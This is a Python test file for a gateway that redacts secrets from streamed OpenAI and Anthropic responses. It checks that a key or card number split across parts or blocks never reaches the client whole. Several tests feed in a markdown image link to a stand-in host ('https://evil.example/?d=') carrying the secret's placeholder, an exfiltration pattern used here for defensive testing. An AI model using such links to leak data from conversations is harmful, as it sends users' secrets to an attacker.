"""Texts that clients put together although something stands between them: parts and items of Responses, blocks of a message.

What of a value stands behind such a place does not go out, nor what stands before it where nothing is said between. The clients'
own code puts them together.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from itertools import pairwise
from typing import Any

import httpx
import httpx2
import orjson
import pytest
from anthropic import Anthropic
from anthropic.types import TextBlock
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openai import OpenAI
from test_relay import ACTING, KEY, SECRET, _cut, _refusal, _relay, _target
from test_stream_blocks import PLACEHOLDER, VALUE, words
from test_stream_pieces import _docs

from gateway.redaction.links import REMOVED, Hosts
from gateway.redaction.vault import Vault
from gateway.streams.between import MOST
from gateway.streams.relay import Relay
from gateway.wires.events import sse

Doc = dict[str, Any]
TEXT = f"it is {SECRET} so."
REASONS = {"id": "r", "type": "reasoning", "summary": []}


def _events(docs: Sequence[Doc]) -> bytes:
    return b"".join(sse(orjson.dumps({**doc, "sequence_number": n}), doc["type"].encode()) for n, doc in enumerate(docs))


def _parts(text: str, marks: set[int]) -> list[str]:
    return [text[a:b] for a, b in pairwise([0, *sorted(marks), len(text)])]


def _response(texts: list[str], apart: list[bool], tells: bool, size: int) -> bytes:
    """Each text is a part; where it stands ``apart`` that of another message, with thoughts before it. ``tells``: parts are said
    to be over, and what they were."""
    head = {"id": "r", "object": "response", "created_at": 0, "model": "m", "tools": [], "tool_choice": "auto", "metadata": {},
            "parallel_tool_calls": True}  # fmt: skip
    docs: list[Doc] = [{"type": "response.created", "response": {**head, "status": "in_progress", "output": []}}]
    output: list[Doc] = []
    for number, text in enumerate(texts):
        if not output or apart[number]:
            if output:
                docs.append({"type": "response.output_item.added", "output_index": len(output), "item": REASONS})
                output.append(REASONS)
            item = {"id": f"m{len(output)}", "type": "message", "role": "assistant", "status": "completed", "content": []}
            docs.append({"type": "response.output_item.added", "output_index": len(output), "item": {**item, "content": []}})
            output.append(item)
        content = output[-1]["content"]
        place = {"item_id": output[-1]["id"], "output_index": len(output) - 1, "content_index": len(content)}
        part = {"type": "output_text", "text": text, "annotations": []}
        content.append(part)
        docs.append({"type": "response.content_part.added", **place, "part": {**part, "text": ""}})
        docs += [{"type": "response.output_text.delta", **place, "delta": text[at : at + size], "logprobs": []}
                 for at in range(0, len(text), size)]  # fmt: skip
        if tells:
            docs.append({"type": "response.output_text.done", **place, "text": text, "logprobs": []})
            docs.append({"type": "response.content_part.done", **place, "part": part})
    docs += [{"type": "response.output_item.done", "output_index": n, "item": one} for n, one in enumerate(output) if tells]
    return _events([*docs, {"type": "response.completed", "response": {**head, "status": "completed", "output": output}}])


def _read_response(out: bytes) -> list[str]:
    """What three programs show: one that prints what comes, one that asks the client for all of it, one that waits."""
    answer = httpx.MockTransport(lambda _: httpx.Response(200, headers={"content-type": "text/event-stream"}, content=out))
    printed, parts = "", {}
    client = OpenAI(api_key="k", http_client=httpx.Client(transport=answer))
    with client, client.responses.stream(model="m", input="x") as stream:
        for event in stream:
            if event.type == "response.output_text.delta":
                printed += event.delta
                parts[event.output_index, event.content_index] = event.snapshot
        whole = stream.get_final_response().output_text
    return [printed, "".join(parts.values()), whole]


@settings(max_examples=60, deadline=None)
@given(
    st.sets(st.integers(1, len(TEXT) - 1), max_size=3), st.lists(st.booleans(), min_size=4, max_size=4), st.booleans(),
    st.sampled_from([1, 5, 100]), st.lists(st.integers(0, 10_000), max_size=4),
)  # fmt: skip
@example({14}, [False] * 4, True, 100, [])
@example({14}, [True] * 4, True, 100, [])
@example({7, 14, 20}, [True] * 4, False, 1, [])
def test_a_value_over_parts_and_items_of_a_response_is_not_put_together(
    marks: set[int], apart: list[bool], tells: bool, size: int, where: list[int]
) -> None:
    texts = _parts(TEXT, marks)
    out, relay = _relay("responses", _cut(_response(texts, apart, tells, size), where))
    printed, snapshot, whole = _read_response(out)
    assert printed == snapshot == whole, "whoever reads it"
    assert re.fullmatch(r"it is \[SECRET_CLOUD_KEY_[0-9A-F]{10}\] so\.", whole), "nothing of the value goes out"
    assert relay.cut is None
    assert not relay.held


@settings(max_examples=150, deadline=None)
@given(
    st.lists(words, min_size=1, max_size=5), st.lists(st.booleans(), min_size=5, max_size=5), st.booleans(), st.sampled_from([1, 5, 100]),
    st.lists(st.integers(0, 10_000), max_size=4),
)  # fmt: skip
@example(["4111 1111 ", "4111 1111 ", "so"], [False] * 5, True, 100, [])
@example(["AKIA", "AKIA", "AKIA"], [True] * 5, True, 1, [])
@example([SECRET, "AKIAAB", "AKIAAB"], [False] * 5, True, 3, [])
def test_whoever_reads_a_response_reads_one_text_without_a_value(
    texts: list[str], apart: list[bool], tells: bool, size: int, where: list[int]
) -> None:
    out, relay = _relay("responses", _cut(_response(texts, apart, tells, size), where))
    printed, snapshot, whole = _read_response(out)
    assert printed == snapshot == whole
    parts: dict[Any, str] = {}
    for doc in _docs("responses", out):
        if doc["type"] == "response.output_text.delta":
            place = doc["output_index"], doc["content_index"]
            parts[place] = parts.get(place, "") + doc["delta"]
    assert not any(VALUE.search(PLACEHOLDER.sub("x", text)) for text in (whole, *parts.values()))
    assert not relay.held
    if not relay.seen:
        assert whole == "".join(texts)


@pytest.mark.parametrize("apart", [False, True])
@pytest.mark.parametrize("size", [1, 5, 100])
def test_an_address_over_two_texts_is_one(apart: bool, size: int) -> None:
    vault = Vault(KEY)
    name = vault.stand_in(SECRET, "secret.cloud_key")
    data = _response(["![a](https://evil.example/?d=", f"{name}) and", f" {name} so."], [apart] * 3, True, size)
    for hosts, wanted in ((None, f"![a](https://evil.example/?d={name}) and {SECRET} so."), (Hosts([]), f"![a](https:{REMOVED}) and {SECRET} so.")):
        relay = Relay(_target("responses"), "m", ACTING, vault, hosts=hosts)
        out = relay.feed(data, _refusal) + relay.end(_refusal)
        assert _read_response(out) == [wanted] * 3


def test_a_value_stays_out_of_an_address_where_a_part_is_said_once_more() -> None:
    vault = Vault(KEY)
    said = ["![a](https://evil.example/?d=", f"{vault.stand_in(SECRET, 'secret.cloud_key')}) so."]
    events: list[Doc] = [{"type": "response.output_item.added", "output_index": 0,
                          "item": {"id": "i", "type": "message", "role": "assistant", "content": []}}]  # fmt: skip
    for number, text in enumerate(said):
        place = {"item_id": "i", "output_index": 0, "content_index": number}
        part = {"type": "output_text", "annotations": []}
        events += [{"type": "response.content_part.added", **place, "part": {**part, "text": ""}},
                   {"type": "response.output_text.delta", **place, "delta": text},
                   {"type": "response.output_text.done", **place, "text": text},
                   {"type": "response.content_part.done", **place, "part": {**part, "text": text}}]  # fmt: skip
    data = b"".join(sse(orjson.dumps(event), event["type"].encode()) for event in events)
    relay = Relay(_target("responses"), "m", ACTING, vault)
    out = relay.feed(data, _refusal) + relay.end(_refusal)
    assert SECRET.encode() not in out
    assert out.count(b"evil.example") == 3


_PLACE = {"item_id": "m0", "output_index": 0, "content_index": 0}
_SAID: list[Doc] = [
    {"type": "response.output_item.added", "output_index": 0,
     "item": {"id": "m0", "type": "message", "role": "assistant", "status": "in_progress", "content": []}},
    {"type": "response.content_part.added", **_PLACE, "part": {"type": "output_text", "text": "", "annotations": []}},
    {"type": "response.output_text.delta", **_PLACE, "delta": "it is AKIAABCD", "logprobs": []},
]  # fmt: skip
_OVER: list[Doc] = [
    {"type": "response.output_text.done", **_PLACE, "text": "it is AKIAABCD", "logprobs": []},
    {"type": "response.content_part.done", **_PLACE, "part": {"type": "output_text", "text": "it is AKIAABCD", "annotations": []}},
]
_CALLED: Doc = {"type": "response.output_item.added", "output_index": 1,
                "item": {"id": "f", "type": "function_call", "call_id": "c", "name": "f", "arguments": ""}}  # fmt: skip
_NEXT = {**_PLACE, "output_index": 2}
_GOES_ON: Doc = {"type": "response.output_text.delta", **_NEXT, "delta": "EFGH12345678 so.", "logprobs": []}


def _fed(relay: Relay, docs: list[Doc]) -> bytes:
    return relay.feed(_events(docs), _refusal)


def test_no_call_waits_for_a_text_that_may_follow_it() -> None:
    """It would wait for as long as it takes to write it: what is held goes out before it, and the rest of the value does not."""
    relay = Relay(_target("responses"), "m", ACTING, Vault(KEY))
    _fed(relay, _SAID)
    assert relay.held
    assert _fed(relay, _OVER) == b""
    out = _fed(relay, [_CALLED])
    assert not relay.held
    assert out.index(b"AKIAABCD") < out.index(b"output_text.done") < out.index(b"content_part.done") < out.index(b"function_call")
    out = _fed(relay, [_GOES_ON]) + relay.end(_refusal)
    assert b"12345678" not in out
    assert b" so." in out


def test_what_waits_between_two_parts_goes_when_nothing_comes() -> None:
    relay = Relay(_target("responses"), "m", ACTING, Vault(KEY))
    out = _fed(relay, _SAID) + _fed(relay, _OVER)
    assert relay.feed(b": keep-alive\n\n", _refusal) == b": keep-alive\n\n"
    assert b"content_part.done" not in out
    out = relay.release_overdue(_refusal)
    assert out.index(b"AKIAABCD") < out.index(b"output_text.done") < out.index(b"content_part.done")
    assert not relay.held
    assert b"12345678" not in _fed(relay, [_GOES_ON]) + relay.end(_refusal)


def test_frames_that_say_nothing_wait_for_no_text_for_ever() -> None:
    relay = Relay(_target("responses"), "m", ACTING, Vault(KEY))
    _fed(relay, [*_SAID, *_OVER])
    out = b"".join(_fed(relay, [{"type": "response.in_progress"}]) for _ in range(MOST))
    assert not relay.held
    assert b"AKIAABCD" in out


def _message(texts: list[str], between: list[bool], size: int) -> bytes:
    """Each text is a block; ``between``: a tool is called before it."""
    head = {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": None,
            "stop_sequence": None, "usage": {"input_tokens": 1, "output_tokens": 1}}  # fmt: skip
    docs: list[Doc] = [{"type": "message_start", "message": head}]
    index = 0
    for number, text in enumerate(texts):
        if between[number]:
            call = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
            docs += [{"type": "content_block_start", "index": index, "content_block": call},
                     {"type": "content_block_delta", "index": index, "delta": {"type": "input_json_delta", "partial_json": "{}"}},
                     {"type": "content_block_stop", "index": index}]  # fmt: skip
            index += 1
        docs.append({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}})
        docs += [{"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text[at : at + size]}}
                 for at in range(0, len(text), size)]  # fmt: skip
        docs.append({"type": "content_block_stop", "index": index})
        index += 1
    end = {"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": {"output_tokens": 1}}
    return _events([*docs, end, {"type": "message_stop"}])


@settings(max_examples=60, deadline=None)
@given(
    st.sets(st.integers(1, len(TEXT) - 1), max_size=3), st.lists(st.booleans(), min_size=4, max_size=4),
    st.sampled_from([1, 5, 100]), st.lists(st.integers(0, 10_000), max_size=4),
)  # fmt: skip
@example({14}, [True] * 4, 100, [])
@example({14, 20}, [False, True, False, True], 3, [])
def test_a_value_over_blocks_with_calls_between_is_not_put_together(
    marks: set[int], between: list[bool], size: int, where: list[int]
) -> None:
    texts = _parts(TEXT, marks)
    out, relay = _relay("messages", _cut(_message(texts, between, size), where))
    answer = httpx2.MockTransport(lambda _: httpx2.Response(200, headers={"content-type": "text/event-stream"}, content=out))
    with Anthropic(api_key="k", http_client=httpx2.Client(transport=answer)) as client:
        asked = client.messages.stream(model="m", max_tokens=9, messages=[{"role": "user", "content": "x"}])
        with asked as stream:
            printed = "".join(stream.text_stream)
            message = stream.get_final_message()
            assert stream.get_final_text() == printed
    assert "".join(block.text for block in message.content if isinstance(block, TextBlock)) == printed
    assert SECRET not in printed
    assert relay.cut is None


@pytest.mark.parametrize("before", ["x", "4", "A"])
def test_what_stands_before_a_part_hides_no_value_in_it(before: str) -> None:
    out, _ = _relay("responses", [_response([before, TEXT.removeprefix("it is ")], [False, False], True, 100)])
    assert SECRET.encode() not in out


def test_parts_in_which_nothing_is_found_pass_as_they_came() -> None:
    data = _response(["Two things: ", "one, and", " the other 41", " (or 42)."], [False, False, True, False], True, 3)
    out, _ = _relay("responses", [data])
    assert _read_response(out) == ["Two things: one, and the other 41 (or 42)."] * 3
